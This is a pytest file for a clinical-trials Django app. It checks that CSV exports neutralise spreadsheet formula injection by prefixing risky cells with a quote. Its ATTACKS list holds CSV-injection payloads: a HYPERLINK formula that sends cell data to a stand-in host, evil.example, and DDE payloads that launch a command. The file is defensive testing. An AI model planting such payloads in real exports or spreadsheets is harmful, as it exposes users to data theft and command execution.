"""CSV formula injection (OWASP "CSV Injection"): a text cell a spreadsheet would evaluate is written with
a leading ``'``; plain signed numbers are left alone. Fails on the code before the fix: cells passed
through unescaped."""

from __future__ import annotations

import csv
import io

import pytest

from trials.exports import open_export
from trials.exports.columns import TEXT, Column, neutralise_formula
from trials.models import Patient, Timepoint

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_text_cells_starting_a_formula_are_prefixed(value: str) -> None:
    assert Column("x", TEXT, "a text column").format(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+3", "-7", "12", "FU1", "L1", "NON-CR/NON-PD", ""])
def test_numbers_and_ordinary_text_are_unchanged(value: str) -> None:
    assert neutralise_formula(value) == value


def test_an_export_never_hands_a_spreadsheet_a_formula(world) -> None:
    # Data stored before input validation existed (a raw update, as an old row would be).
    patient = Patient.objects.filter(trial=world.trial).order_by("pk").first()
    Patient.objects.filter(pk=patient.pk).update(subject_id=ATTACKS[0])
    Timepoint.objects.filter(patient=patient, is_baseline=True).update(visit_label=ATTACKS[3])
    for kind in ("visits", "lesions", "tu", "tr", "rs", "patients"):
        text = "".join(open_export(kind, world.trial))
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows[1:] for cell in row]
        if kind in ("visits", "lesions", "patients"):
            assert "'" + ATTACKS[0] in cells, kind
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (kind, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus sign
